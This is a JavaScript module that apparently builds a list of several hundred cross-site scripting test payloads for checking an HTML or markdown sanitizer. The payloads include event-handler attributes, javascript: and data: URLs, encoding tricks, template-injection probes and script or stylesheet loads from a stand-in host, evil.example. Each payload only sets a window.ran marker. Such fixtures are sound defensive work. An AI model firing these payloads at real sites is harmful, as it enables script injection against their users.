// Three hundred ways to smuggle a script into words. Each that ran would set `window.ran`.
const run = 'window.ran=1'
const events = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onbegin', 'onanimationstart', 'onpointerover', 'onmouseover', 'onscroll', 'onwheel']
const holders = [
  (event) => `<img src=x ${event}=${run}>`,
  (event) => `<svg ${event}=${run}>`,
  (event) => `<body ${event}=${run}>`,
  (event) => `<input autofocus ${event}=${run}>`,
  (event) => `<details open ${event}=${run}>x</details>`,
  (event) => `<video><source ${event}="${run}"></video>`,
  (event) => `" ${event}="${run}" autofocus x="`,
  (event) => `' ${event}='${run}' autofocus x='`,
  (event) => `\`><img src=x ${event}=\`${run}\`>`,
  (event) => `<a ${event}=${run} href=#x tabindex=1>x</a>`,
  (event) => `<svg><animate ${event}=${run} attributeName=x dur=1s>`,
  (event) => `<iframe src=about:blank ${event}=${run}></iframe>`,
  (event) => `<IMG SRC=x ${event.toUpperCase()}=${run}>`,
  (event) => `<img/src=x/${event}=${run}>`,
  (event) => `<img src=x\n${event}\n=\n${run}>`,
  (event) => `</textarea><img src=x ${event}=${run}>`,
  (event) => `</title><img src=x ${event}=${run}>`,
  (event) => `--><img src=x ${event}=${run}>`,
  (event) => `]]><img src=x ${event}=${run}>`,
  (event) => `<math><annotation-xml encoding="text/html"><img src=x ${event}=${run}></annotation-xml></math>`
]
const addresses = [
  `javascript:${run}`, `JaVaScRiPt:${run}`, `java\tscript:${run}`, `java\nscript:${run}`, `\u0001javascript:${run}`,
  `javascript&colon;${run}`, `&#106;avascript:${run}`, `data:text/html,<script>${run}</script>`, `vbscript:${run}`,
  ` javascript:${run}`
]
const carriers = [
  (to) => `<a href="${to}">x</a>`, (to) => `[x](${to})`, (to) => `![x](${to})`, (to) => `<form action="${to}"><button>x`,
  (to) => `<svg><a xlink:href="${to}"><text>x</text></a>`, (to) => `<iframe src="${to}">`, (to) => `<object data="${to}">`
]
const others = [
  `<script>${run}</script>`, `<script src=//evil.example/x.js></script>`, `<scr<script>ipt>${run}</script>`,
  `<style>*{background:url(javascript:${run})}</style>`, `<link rel=stylesheet href=//evil.example>`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`, `<base href=//evil.example/>`,
  '{{7*7}}', '${7*7}', '<%= 7*7 %>', '#{7*7}', '{% raw %}', '{{ constructor.constructor("window.ran=1")() }}',
  `&lt;script&gt;${run}&lt;/script&gt;`, `\u003cscript\u003e${run}\u003c/script\u003e`, `%3Cscript%3E${run}%3C/script%3E`,
  `+ADw-script+AD4-${run}+ADw-/script+AD4-`, `<template><script>${run}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`, `<svg><set attributeName=onload to=${run}>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${run}</script></svg>#x">`,
  `<xmp><img src=x onerror=${run}></xmp>`, `<plaintext>`, `<!--><img src=x onerror=${run}>-->`, `<?xml ?><script>${run}</script>`,
  `<img src=x onerror=&#119;indow.ran=1>`, `<div style="width:expression(${run})">`, `<marquee onstart=${run}>`,
  `<isindex action=javascript:${run}>`, `\u202e<script>${run}</script>`
]

export const vectors = [
  ...events.flatMap((event) => holders.map((holder) => holder(event))),
  ...addresses.flatMap((to) => carriers.map((carrier) => carrier(to))),
  ...others
]
